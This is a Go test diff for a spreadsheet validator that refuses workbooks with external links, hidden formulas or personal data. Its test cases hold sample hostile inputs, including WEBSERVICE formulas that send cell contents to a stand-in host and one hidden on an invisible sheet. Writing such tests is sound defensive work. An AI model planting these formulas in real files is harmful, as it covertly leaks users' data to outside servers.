@@ -52,6 +52,42 @@ func book(t testing.TB, cells map[string]string) []byte {
 	return o.bytes()
 }
 
+// hiddenFormula is a workbook with a formula on a sheet that nobody sees.
+func hiddenFormula(t testing.TB, formula string) []byte {
+	return changed(t, func(f *excelize.File) error {
+		if _, err := f.NewSheet("辅助"); err != nil {
+			return err
+		}
+		if err := f.SetCellFormula("辅助", "B2", formula); err != nil {
+			return err
+		}
+		return f.SetSheetVisible("辅助", false)
+	})
+}
+
+func named(t testing.TB, refers string) []byte {
+	return changed(t, func(f *excelize.File) error {
+		return f.SetDefinedName(&excelize.DefinedName{Name: "外部", RefersTo: refers})
+	})
+}
+
+func changed(t testing.TB, change func(*excelize.File) error) []byte {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(book(t, map[string]string{"A1": "项目", "B1": "人数", "A2": "务工人数"})))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if err := change(f); err != nil {
+		t.Fatal(err)
+	}
+	out, err := f.WriteToBuffer()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
 // TestRefused: what is more than a table is refused with its reason.
 func TestRefused(t *testing.T) {
 	plain := book(t, map[string]string{"A1": "项目", "B1": "人数", "A2": "务工人数"})
@@ -70,6 +106,8 @@ func TestRefused(t *testing.T) {
 		{"linked part", with(t, plain, "xl/worksheets/_rels/sheet1.xml.rels", rels), "design.blank.links"},
 		{"formula outside", book(t, map[string]string{"A1": "项目", "B1": "人数", "B2": "=[1]Sheet1!A1"}), "design.blank.formula"},
 		{"formula to a server", book(t, map[string]string{"A1": "项目", "B1": "人数", "B2": `=WEBSERVICE("http://x.example/"&A1)`}), "design.blank.formula"},
+		{"formula outside on a hidden sheet", hiddenFormula(t, `WEBSERVICE("http://x.example/")`), "design.blank.formula"},
+		{"name outside", named(t, `[1]Sheet1!$A$1`), "design.blank.formula"},
 		{"people", book(t, map[string]string{"A1": "姓名", "B1": "证件号码", "B2": "37152219000101001X"}), "design.blank.personal"},
 		{"text", []byte("项目,人数"), "design.blank.type"},
 		{"nothing", nil, "design.blank.type"},
